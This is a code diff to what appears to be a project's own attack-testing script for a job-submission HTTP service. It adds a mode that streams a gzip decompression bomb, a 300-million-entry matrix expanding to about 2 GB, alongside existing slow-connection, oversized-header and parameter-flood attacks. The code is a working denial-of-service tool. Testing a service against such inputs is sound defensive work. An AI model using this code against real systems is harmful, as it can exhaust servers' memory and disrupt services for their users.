@@ -14,6 +14,11 @@ honest client gets (issue 18). Standard library only.
       raw text) of a banner followed by --gb GB of '%', generated while it
       is sent (the compressed stream repeats one 1 MiB block made with a
       full flush, so it costs no CPU to send).
+  attack.py bomb URL [--entries 300000000] [--rows 100] [--pid PID]
+      the gzip bomb of issue 17: a --rows x --rows coordinate matrix
+      declaring --entries entries and holding one more (about 6.7 bytes of
+      text each: 2 GB for 300 M, 8-9 MB compressed), generated as it is
+      sent; the answer, and the job followed to its end if accepted.
   attack.py params URL [--n 1000] [--matrix M]
       requests with --n query parameters (GET and POST).
   attack.py length URL [--matrix M]
@@ -37,6 +42,7 @@ import os
 import random
 import selectors
 import socket
+import struct
 import sys
 import threading
 import time
@@ -244,10 +250,54 @@ def plain_endless(total_bytes):
         yield block
 
 
-def attack_header(a):
+
+def gzip_bomb(rows, entries):
+    """(gzip pieces, text bytes): a rows x rows matrix declaring `entries`
+    and holding entries + 1 lines that cycle through the cells; one block
+    of whole lines compressed with a full flush and repeated."""
+    head = b"%%%%MatrixMarket matrix coordinate real general\n%d %d %d\n" % (rows, rows, entries)
+    # a cycle of 250 cells (under deflate's 32 KB window, so the text
+    # compresses about 250:1, as the bomb of the issue did)
+    cells = [b"%d %d 1\n" % (i % rows + 1, (i * 7) % rows + 1) for i in range(250)]
+    block = b"".join(cells)
+    reps = max(1, (1 << 20) // len(block))
+    block = block * reps
+    per = len(cells) * reps
+    total = entries + 1
+    nblocks, rem = divmod(total, per)
+    tail = b"".join(cells[k % len(cells)] for k in range(rem))
+    c = zlib.compressobj(6, zlib.DEFLATED, -15)
+    pieces = [b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
+              c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)]
+    cblock = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
+    crc = zlib.crc32(head)
+    # the CRC of the repeated block, by doubling (crc32 of the concatenation)
+    for _ in range(nblocks):
+        crc = zlib.crc32(block, crc)
+    crc = zlib.crc32(tail, crc)
+    size = len(head) + nblocks * len(block) + len(tail)
+
+    def gen():
+        yield from pieces
+        for _ in range(nblocks):
+            yield cblock
+        yield c.compress(tail) + c.flush(zlib.Z_FINISH)
+        yield struct.pack("<II", crc & 0xFFFFFFFF, size & 0xFFFFFFFF)
+    return gen(), size
+
+
+def attack_bomb(a):
+    gen, size = gzip_bomb(a.rows, a.entries)
+    a.plain = False
+    out = attack_header(a, gen)
+    out["text_bytes"] = size
+    return out
+
+def attack_header(a, gen=None):
     host, port = parse_url(a.url)
     total = int(a.gb * (1 << 30))
-    gen = plain_endless(total) if a.plain else gzip_endless(total)
+    if gen is None:
+        gen = plain_endless(total) if a.plain else gzip_endless(total)
     s = socket.create_connection((host, port), timeout=30)
     s.sendall(b"POST /v1/jobs HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
 
@@ -398,7 +448,7 @@ def attack_length(a):
 
 def main():
     ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
-    ap.add_argument("attack", choices=["slow", "header", "params", "length"])
+    ap.add_argument("attack", choices=["slow", "header", "bomb", "params", "length"])
     ap.add_argument("url")
     ap.add_argument("--conns", type=int, default=200)
     ap.add_argument("--seconds", type=float, default=30)
@@ -411,6 +461,8 @@ def main():
     ap.add_argument("--plain", action="store_true")
     ap.add_argument("--follow", type=float, default=60, help="seconds to follow an accepted job")
     ap.add_argument("--n", type=int, default=1000)
+    ap.add_argument("--entries", type=int, default=300000000)
+    ap.add_argument("--rows", type=int, default=100)
     ap.add_argument("--matrix")
     ap.add_argument("--pid", type=int)
     ap.add_argument("--token", default=os.environ.get("CLSOLVE_TOKEN"))
@@ -425,6 +477,8 @@ def main():
         outcome = attack_slow(a)
     elif a.attack == "header":
         outcome = attack_header(a)
+    elif a.attack == "bomb":
+        outcome = attack_bomb(a)
     elif a.attack == "params":
         outcome = attack_params(a)
     else:
